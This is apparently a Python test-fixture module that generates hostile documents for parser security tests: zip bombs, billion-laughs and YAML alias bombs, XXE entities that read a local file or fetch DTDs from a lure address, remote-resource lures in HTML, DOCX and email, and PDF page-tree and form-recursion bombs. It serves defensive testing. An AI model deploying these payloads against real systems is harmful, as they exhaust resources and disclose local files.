"""Documents made to harm whoever reads them, built when they are asked for.

What belongs here: bytes. What does not: what should become of them (`test_hostile_documents`).
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import NamedTuple


class Lure(NamedTuple):
    """What documents point at: a file that must not be read, an address that must not be called."""

    file: bytes
    address: bytes


INFLATED = 50_000_000
"""Bytes that an archive inflates to; beyond the limit of the tests."""

DOCUMENTS: dict[str, Callable[[Lure], bytes]] = {}
"""File name to the function that makes its bytes."""

_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_CONTENT_TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_ODF = "urn:oasis:names:tc:opendocument:xmlns"

_BILLION_LAUGHS = b'<!ENTITY l0 "laughter">' + b"".join(
    b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10)
)
_QUADRATIC = b'<!ENTITY big "' + b"A" * 200_000 + b'">'


def luring(name: str) -> Callable[[Callable[[Lure], bytes]], None]:
    """Enter the decorated function under a file name."""

    def enter(make: Callable[[Lure], bytes]) -> None:
        DOCUMENTS[name] = make

    return enter


def document(name: str) -> Callable[[Callable[[], bytes]], None]:
    """Enter the decorated function, which needs no lure, under a file name."""

    def enter(make: Callable[[], bytes]) -> None:
        DOCUMENTS[name] = lambda _: make()

    return enter


def docx(body: bytes, *, prologue: bytes = b"", extra: dict[str, bytes] | None = None) -> bytes:
    """A Word document with `body` inside ``w:body``."""
    main = (
        b'<?xml version="1.0"?>%s<w:document xmlns:w="%s" xmlns:r="%s"><w:body>%s</w:body></w:document>'
        % (
            prologue,
            _WORD.encode(),
            _OFFICE.encode(),
            body,
        )
    )
    return package(
        "/word/document.xml",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        {"word/document.xml": main, **(extra or {})},
    )


def xlsx(sheet: bytes, *, prologue: bytes = b"", shared: bytes = b"") -> bytes:
    """A workbook with one sheet."""
    book = (
        f'<workbook xmlns="{_SHEET}" xmlns:r="{_OFFICE}"><sheets>'
        '<sheet name="one" sheetId="1" r:id="rId1"/></sheets></workbook>'
    )
    relations = (
        f'<Relationships xmlns="{_RELATIONS}">'
        f'<Relationship Id="rId1" Type="{_OFFICE}/worksheet" Target="worksheets/sheet1.xml"/>'
        f'<Relationship Id="rId2" Type="{_OFFICE}/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
    )
    return package(
        "/xl/workbook.xml",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        {
            "xl/workbook.xml": book.encode(),
            "xl/_rels/workbook.xml.rels": relations.encode(),
            "xl/sharedStrings.xml": shared or f'<sst xmlns="{_SHEET}"/>'.encode(),
            "xl/worksheets/sheet1.xml": b'<?xml version="1.0"?>%s<worksheet xmlns="%s">%s</worksheet>'
            % (prologue, _SHEET.encode(), sheet),
        },
    )


def package(main: str, media_type: str, parts: dict[str, bytes]) -> bytes:
    """An Office Open XML package."""
    types = (
        f'<Types xmlns="{_CONTENT_TYPES}"><Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="{main}" ContentType="{media_type}"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
    )
    relations = (
        f'<Relationships xmlns="{_RELATIONS}"><Relationship Id="rId1" Type="{_OFFICE}/officeDocument" '
        f'Target="{main[1:]}"/></Relationships>'
    )
    return archive({"[Content_Types].xml": types.encode(), "_rels/.rels": relations.encode(), **parts})


def archive(parts: dict[str, bytes]) -> bytes:
    """A ZIP archive; a part named ``mimetype`` stands first and uncompressed, as OpenDocument wants it."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as file:
        for name, data in sorted(parts.items(), key=lambda part: part[0] != "mimetype"):
            file.writestr(name, data, zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED)
    return target.getvalue()


def odf(kind: str, body: bytes, *, prologue: bytes = b"") -> bytes:
    """An OpenDocument file of `kind` (text, spreadsheet) with `body` inside it."""
    media_type = f"application/vnd.oasis.opendocument.{kind}".encode()
    content = (
        f'<office:document-content xmlns:office="{_ODF}:office:1.0" xmlns:text="{_ODF}:text:1.0" '
        f'xmlns:table="{_ODF}:table:1.0" office:version="1.2"><office:body><office:{kind}>'
    ).encode() + body
    content += f"</office:{kind}></office:body></office:document-content>".encode()
    manifest = (
        f'<m:manifest xmlns:m="{_ODF}:manifest:1.0"><m:file-entry m:full-path="/" '
        f'm:media-type="{media_type.decode()}"/></m:manifest>'
    )
    return archive(
        {
            "mimetype": media_type,
            "content.xml": b'<?xml version="1.0"?>' + prologue + content,
            "META-INF/manifest.xml": manifest.encode(),
        }
    )


def pdf(objects: list[bytes], *, broken_xref: bool = False) -> bytes:
    """A PDF of these objects, numbered from 1; the first is the catalogue."""
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, content in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % (4_000_000_000 if broken_xref else offset)
    out += b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (
        999_999_999 if broken_xref else len(objects) + 1,
        7 if broken_xref else start,
    )
    return bytes(out)


def _stream(data: bytes, dictionary: bytes = b"") -> bytes:
    return b"<</Length %d%s>>stream\n%s\nendstream" % (len(data), dictionary, data)


_FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"


@document("zip-bomb.docx")
def _zip_bomb() -> bytes:
    return docx(b"<w:p><w:r><w:t>" + b"a" * INFLATED + b"</w:t></w:r></w:p>")


@document("zip-bomb-in-a-picture-nobody-reads.docx")
def _zip_bomb_beside() -> bytes:
    text = b"<w:p><w:r><w:t>harmless</w:t></w:r></w:p>"
    return docx(text, extra={"word/media/image1.png": bytes(INFLATED)})


@document("zip-that-lies-about-its-sizes.docx")
def _lying_zip() -> bytes:
    data = bytearray(docx(b"<w:p><w:r><w:t>" + b"a" * INFLATED + b"</w:t></w:r></w:p>"))
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = data.find(signature)
        while at >= 0:
            data[at + offset : at + offset + 4] = struct.pack("<I", 100)
            at = data.find(signature, at + 4)
    return bytes(data)


@document("zip-with-20000-parts.docx")
def _many_parts() -> bytes:
    return docx(b"<w:p/>", extra={f"word/part{number}.xml": b"<a/>" for number in range(20_000)})


@document("billion-laughs.xml")
def _laughs_xml() -> bytes:
    return b'<?xml version="1.0"?><!DOCTYPE r [' + _BILLION_LAUGHS + b"]><r>&l9;</r>"


@document("billion-laughs.svg")
def _laughs_svg() -> bytes:
    return (
        b'<?xml version="1.0"?><!DOCTYPE svg [' + _BILLION_LAUGHS
        + b']><svg xmlns="http://www.w3.org/2000/svg"><text>&l9;</text></svg>'
    )  # fmt: skip


@document("billion-laughs.docx")
def _laughs_docx() -> bytes:
    return docx(b"<w:p><w:r><w:t>&l9;</w:t></w:r></w:p>", prologue=b"<!DOCTYPE r [" + _BILLION_LAUGHS + b"]>")


@document("billion-laughs.xlsx")
def _laughs_xlsx() -> bytes:
    return xlsx(
        b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&l9;</t></is></c></row></sheetData>',
        prologue=b"<!DOCTYPE r [" + _BILLION_LAUGHS + b"]>",
    )


@document("billion-laughs.odt")
def _laughs_odt() -> bytes:
    return odf("text", b"<text:p>&l9;</text:p>", prologue=b"<!DOCTYPE r [" + _BILLION_LAUGHS + b"]>")


@document("quadratic-entities.xml")
def _quadratic_xml() -> bytes:
    return b'<?xml version="1.0"?><!DOCTYPE r [' + _QUADRATIC + b"]><r>" + b"&big;" * 20_000 + b"</r>"


@document("yaml-aliases.md")
def _yaml_bomb() -> bytes:
    lines = ["l0: &l0 [ha, ha, ha, ha, ha, ha, ha, ha, ha, ha]"]
    lines += [f"l{n}: &l{n} [{', '.join([f'*l{n - 1}'] * 10)}]" for n in range(1, 10)]
    return ("---\n" + "\n".join(lines) + "\n---\n\n# Laughter\n\nText.\n").encode()


@luring("external-entity.xml")
def _xxe_xml(lure: Lure) -> bytes:
    return (
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file://' + lure.file
        + b'"><!ENTITY y SYSTEM "http://' + lure.address + b'/e">]><r>before &x; &y; after</r>'
    )  # fmt: skip


@luring("external-dtd.xml")
def _external_dtd(lure: Lure) -> bytes:
    return (
        b'<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://' + lure.address + b'/r.dtd" [<!ENTITY % p SYSTEM "http://'
        + lure.address + b'/p.dtd"> %p;]><r>text</r>'
    )  # fmt: skip


@luring("external-entity.docx")
def _xxe_docx(lure: Lure) -> bytes:
    return docx(
        b"<w:p><w:r><w:t>before &x; after</w:t></w:r></w:p>",
        prologue=b'<!DOCTYPE r [<!ENTITY x SYSTEM "file://' + lure.file + b'">]>',
    )


@luring("external-entity.xlsx")
def _xxe_xlsx(lure: Lure) -> bytes:
    return xlsx(
        b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>a &x;</t></is></c></row></sheetData>',
        prologue=b'<!DOCTYPE r [<!ENTITY x SYSTEM "file://' + lure.file + b'">]>',
    )


@luring("external-entity.odt")
def _xxe_odt(lure: Lure) -> bytes:
    return odf(
        "text",
        b"<text:p>before &x; after</text:p>",
        prologue=b'<!DOCTYPE r [<!ENTITY x SYSTEM "file://' + lure.file + b'">]>',
    )


@luring("external-entity.html")
def _xxe_html(lure: Lure) -> bytes:
    return (
        b'<!DOCTYPE html [<!ENTITY x SYSTEM "file://' + lure.file + b'">]><html><body><p>before &x; after</p>'
        b'<object data="file://' + lure.file + b'"></object><iframe src="file://' + lure.file
        + b'"></iframe></body></html>'
    )  # fmt: skip


@luring("include.rst")
def _include_rst(lure: Lure) -> bytes:
    return (
        b"Title\n=====\n\nText.\n\n.. include:: "
        + lure.file
        + b"\n\n.. csv-table:: t\n   :file: "
        + lure.file
        + b"\n"
    )


@luring("include.adoc")
def _include_adoc(lure: Lure) -> bytes:
    return b"= Title\n\nText.\n\ninclude::" + lure.file + b"[]\n"


@luring("pictures.html")
def _pictures_html(lure: Lure) -> bytes:
    return (
        b'<html><head><link rel="stylesheet" href="http://HOST/a.css"><script src="http://HOST/a.js">'
        b'</script><base href="http://HOST/"></head><body><p>Some text.</p><img src="http://HOST/a.png">'
        b'<iframe src="http://HOST/f"></iframe><object data="http://HOST/o"></object>'
        b'<svg xmlns="http://www.w3.org/2000/svg"><image href="http://HOST/s"/></svg></body></html>'
    ).replace(b"HOST", lure.address)


@luring("pictures.md")
def _pictures_md(lure: Lure) -> bytes:
    text = b"# Title\n\n![picture](http://HOST/a.png) [link](http://HOST/) <http://HOST/b>\n"
    return text.replace(b"HOST", lure.address)


@luring("pictures.docx")
def _pictures_docx(lure: Lure) -> bytes:
    relations = (
        f'<Relationships xmlns="{_RELATIONS}"><Relationship Id="rId9" Type="{_OFFICE}/image" '
        f'Target="http://{lure.address.decode()}/a.png" TargetMode="External"/>'
        f'<Relationship Id="rId8" Type="{_OFFICE}/attachedTemplate" '
        f'Target="http://{lure.address.decode()}/t.dotm" TargetMode="External"/></Relationships>'
    )
    body = b"<w:p><w:r><w:t>Some text.</w:t></w:r></w:p>"
    return docx(body, extra={"word/_rels/document.xml.rels": relations.encode()})


@luring("pictures.eml")
def _pictures_eml(lure: Lure) -> bytes:
    return (
        b"From: a@example.com\r\nTo: b@example.com\r\nSubject: s\r\nMIME-Version: 1.0\r\n"
        b"Content-Type: message/external-body; access-type=URL; URL=http://HOST/x\r\n\r\n"
        b"Content-Type: text/html\r\n\r\n<img src='http://HOST/a.png'>Text\r\n"
    ).replace(b"HOST", lure.address)


@document("nested-divs.html")
def _nested_divs() -> bytes:
    return b"<html><body>" + b"<div>" * 100_000 + b"deep" + b"</div>" * 100_000 + b"</body></html>"


@document("nested-tables.html")
def _nested_tables() -> bytes:
    return b"<html><body>" + b"<table><tr><td>x" * 3_000 + b"</body></html>"


@document("spans.html")
def _spans() -> bytes:
    row = b'<tr><td rowspan="65534" colspan="1000">x</td></tr>'
    return b"<html><body><p>Text.</p><table>" + row * 50 + b"</table></body></html>"


@document("unclosed-tags.html")
def _unclosed() -> bytes:
    return b"<html><body><p>text" + b"<b><i><u>" * 30_000 + b"</body></html>"


@document("attributes.html")
def _attributes() -> bytes:
    return b"<html><body><p " + b" ".join(b"a%d=1" % n for n in range(200_000)) + b">text</p></body></html>"


@document("open-angles.html")
def _open_angles() -> bytes:
    return b"<html><body><p>text</p>" + b"<!--" * 300_000


@document("brackets.md")
def _brackets() -> bytes:
    return b"# Title\n\n" + b"[" * 100_000 + b"\n"


@document("links.md")
def _links() -> bytes:
    return b"# Title\n\n" + b"[a](" * 50_000 + b"\n\n" + b"![" * 50_000 + b"\n"


@document("quotes.md")
def _quotes() -> bytes:
    return b"# Title\n\n" + b">" * 50_000 + b" text\n"


@document("emphasis.md")
def _emphasis() -> bytes:
    return b"# Title\n\n" + b"*a **b " * 20_000 + b"c** d*" * 20_000 + b"\n\n" + b"_" * 100_000 + b"a\n"


@document("lists.md")
def _lists() -> bytes:
    return b"# Title\n\n" + b"".join(b"  " * depth + b"- item\n" for depth in range(2_000))


@document("backticks.md")
def _backticks() -> bytes:
    return b"# Title\n\n" + b" ".join(b"`" * n for n in range(1, 1_500)) + b"\n"


@document("pipes.md")
def _pipes() -> bytes:
    return b"# Title\n\n" + b"|" * 100_000 + b"\n" + b"|-" * 100_000 + b"|\n" + b"|" * 100_000 + b"\n"


@document("references.md")
def _references() -> bytes:
    definitions = b"".join(b"[%d]: /a\n" % n for n in range(20_000))
    return b"# Title\n\n" + definitions + b"".join(b"[%d]" % n for n in range(20_000)) + b"\n"


@document("spaces.md")
def _spaces() -> bytes:
    """Bait for expressions that look for trailing white space."""
    return b"# Title\n\n" + (b"a" + b" " * 50_000) * 20 + b"b\n\n" + b"a\t \t" * 50_000 + b"\n"


@document("one-line.txt")
def _one_line() -> bytes:
    return b"a sentence of words without any end " * (50_000_000 // 36)


@document("one-word.txt")
def _one_word() -> bytes:
    return b"x" * 5_000_000


@document("combining-marks.txt")
def _combining() -> bytes:
    """Normalisation sorts combining marks; a run of them is bait for a quadratic sort."""
    return ("Text a" + "\u0327\u0301" * 200_000 + " end.").encode()


@document("bullets.txt")
def _bullets() -> bytes:
    return b"- " * 200_000 + b"\n" + b"1. " * 200_000 + b"\n" + b"=" * 200_000 + b"\n" + b"." * 200_000


@document("columns.csv")
def _columns() -> bytes:
    return b",".join(b"c%d" % n for n in range(300_000)) + b"\n" + b",".join([b"1"] * 300_000) + b"\n"


@document("ragged.csv")
def _ragged() -> bytes:
    """One wide row above many narrow ones: filled up to a rectangle it is 10^10 cells."""
    return b",".join([b"h"] * 100_000) + b"\n" + b"1,2\n" * 100_000


@document("open-quote.csv")
def _open_quote() -> bytes:
    return b'a,b,c\n1,2,3\n4,5,"' + b"6\n" * 250_000


@document("nested.json")
def _nested_json() -> bytes:
    return b'{"a":' * 200_000 + b"1" + b"}" * 200_000


@document("nested-lists.json")
def _nested_lists() -> bytes:
    return b"[" * 1_000_000 + b"]" * 1_000_000


@document("number.json")
def _number_json() -> bytes:
    return b'{"n": ' + b"9" * 1_000_000 + b', "text": "words"}'


@document("nested.rtf")
def _nested_rtf() -> bytes:
    return b"{\\rtf1 text " + b"{" * 500_000 + b"}" * 500_000 + b"}"


@document("multipart.eml")
def _multipart() -> bytes:
    head = b"From: a@example.com\r\nTo: b@example.com\r\nSubject: deep\r\nMIME-Version: 1.0\r\n"
    for depth in range(3_000):
        head += b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (depth, depth)
    return head + b"Content-Type: text/plain\r\n\r\nText.\r\n"


@document("headers.eml")
def _headers() -> bytes:
    return (
        b"From: a@example.com\r\nTo: " + b"b@example.com, " * 100_000 + b"\r\nSubject: "
        + b"=?utf-8?q?a?= " * 50_000 + b"\r\nDate: x\r\n\r\nText.\r\n"
    )  # fmt: skip


@document("far-cell.xlsx")
def _far_cell() -> bytes:
    return xlsx(
        b'<dimension ref="A1:XFD1048576"/><sheetData><row r="1"><c r="A1"><v>1</v></c></row>'
        b'<row r="1048576"><c r="XFD1048576"><v>2</v></c></row></sheetData>'
        b'<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    )


@document("far-column.xlsx")
def _far_column() -> bytes:
    """Rows that go on to the last column there may be, for two cells in each."""
    row = b'<row r="%d"><c r="A%d"><v>1</v></c><c r="XFD%d"><v>2</v></c></row>'
    rows = b"".join(row % (number, number, number) for number in range(1, 6_001))
    return xlsx(b"<sheetData>" + rows + b"</sheetData>")


@document("merged-over-all.xlsx")
def _merged_over_all() -> bytes:
    """Each row begins a merged cell that goes on to the end of the sheet."""
    row, merge = b'<row r="%d"><c r="A%d"><v>1</v></c></row>', b'<mergeCell ref="A%d:XFD1048576"/>'
    rows = b"".join(row % (number, number) for number in range(1, 1_001))
    merges = b"".join(merge % number for number in range(1, 1_001))
    return xlsx(b"<sheetData>" + rows + b"</sheetData><mergeCells>" + merges + b"</mergeCells>")


@document("far-cell.ods")
def _far_cell_ods() -> bytes:
    return odf(
        "spreadsheet",
        b'<table:table table:name="t"><table:table-row>'
        b'<table:table-cell table:number-rows-spanned="1048576" table:number-columns-spanned="16384">'
        b"<text:p>x</text:p></table:table-cell>"
        b'<table:covered-table-cell table:number-columns-repeated="16383"/></table:table-row>'
        b'<table:table-row table:number-rows-repeated="1048574">'
        b'<table:covered-table-cell table:number-columns-repeated="16384"/></table:table-row>'
        b'<table:table-row><table:covered-table-cell table:number-columns-repeated="16383"/>'
        b"<table:table-cell><text:p>y</text:p></table:table-cell></table:table-row></table:table>",
    )


@document("repeated-blanks.ods")
def _repeated_blanks() -> bytes:
    return odf(
        "spreadsheet",
        b'<table:table table:name="t"><table:table-row table:number-rows-repeated="1048575">'
        b'<table:table-cell table:number-columns-repeated="16384"><text:p> <text:s/></text:p>'
        b"</table:table-cell></table:table-row>"
        b"<table:table-row><table:table-cell><text:p>y</text:p></table:table-cell></table:table-row>"
        b"</table:table>",
    )


@document("repeated-cells.ods")
def _repeated_cells() -> bytes:
    return odf(
        "spreadsheet",
        b'<table:table table:name="t"><table:table-row table:number-rows-repeated="1048576">'
        b'<table:table-cell table:number-columns-repeated="16384"><text:p>x</text:p></table:table-cell>'
        b"</table:table-row></table:table>",
    )


@document("spaces.odt")
def _odt_spaces() -> bytes:
    return odf("text", b'<text:p>a<text:s text:c="2000000000"/>b</text:p>')


@document("wide-cell.docx")
def _wide_cell() -> bytes:
    cell = b'<w:tc><w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr><w:p><w:r><w:t>x</w:t></w:r></w:p></w:tc>'
    return docx(b"<w:tbl>" + (b"<w:tr>" + cell + b"</w:tr>") * 10 + b"</w:tbl>")


@document("nested-tables.docx")
def _nested_docx() -> bytes:
    depth = 200
    return docx(
        b"<w:tbl><w:tr><w:tc>" * depth + b"<w:p><w:r><w:t>x</w:t></w:r></w:p>"
        + b"<w:p/></w:tc></w:tr></w:tbl>" * depth
    )  # fmt: skip


@document("deep.docx")
def _deep_docx() -> bytes:
    return docx(b"<w:p>" + b"<w:smartTag>" * 100_000 + b"</w:smartTag>" * 100_000 + b"</w:p>")


@document("endless-page-tree.pdf")
def _page_loop() -> bytes:
    return pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[2 0 R 3 0 R]/Count 2147483647>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 1e30 1e30]>>",
        ]
    )


@document("ten-billion-pages.pdf")
def _page_bomb() -> bytes:
    """A page tree whose nodes name the same children ten times over."""
    depth = 10
    nodes = [
        b"<</Type/Pages/Count %d/Kids[%s]>>" % (10 ** (depth - level), b"%d 0 R " % (level + 3) * 10)
        for level in range(depth)
    ]
    page = b"<</Type/Page/MediaBox[0 0 99 99]/Resources<<>>>>"
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", *nodes, page])


@document("broken-cross-references.pdf")
def _broken_xref() -> bytes:
    text = b"BT /F 12 Tf 9 9 Td (The text of a mended file.) Tj ET"
    return pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 99]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>",
            _stream(text),
            _FONT,
        ],
        broken_xref=True,
    )


@document("inflating-page.pdf")
def _inflating_page() -> bytes:
    """A page whose content inflates, through two filters, a hundred thousand times, to 30 MB of operators."""
    once = zlib.compressobj(9)
    inner = b"".join([*(once.compress(b"q Q " * 250_000) for _ in range(30)), once.flush()])
    return pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Contents 4 0 R/Resources<<>>>>",
            _stream(zlib.compress(inner, 9), b"/Filter[/FlateDecode/FlateDecode]"),
        ]
    )


@document("form-calls-itself.pdf")
def _form_bomb() -> bytes:
    """Forms that each draw the next one ten times: 10^8 lines of text."""
    depth = 8
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 99 99]"
    forms = [
        _stream(b"/X Do " * 10, form + b"/Resources<</XObject<</X %d 0 R>>>>" % (level + 5))
        for level in range(depth)
    ]
    last = _stream(b"BT /F 9 Tf (text) Tj ET", form + b"/Resources<</Font<</F %d 0 R>>>>" % (depth + 6))
    return pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Contents %d 0 R"
            b"/Resources<</XObject<</X 4 0 R>>>>>>" % (depth + 5),
            *forms,
            _stream(b"/X Do"),
            last,
            _FONT,
        ]
    )


@document("random-after-its-signature.pdf")
def _random_pdf() -> bytes:
    return b"%PDF-1.7\n" + bytes(n * n % 251 for n in range(200_000))
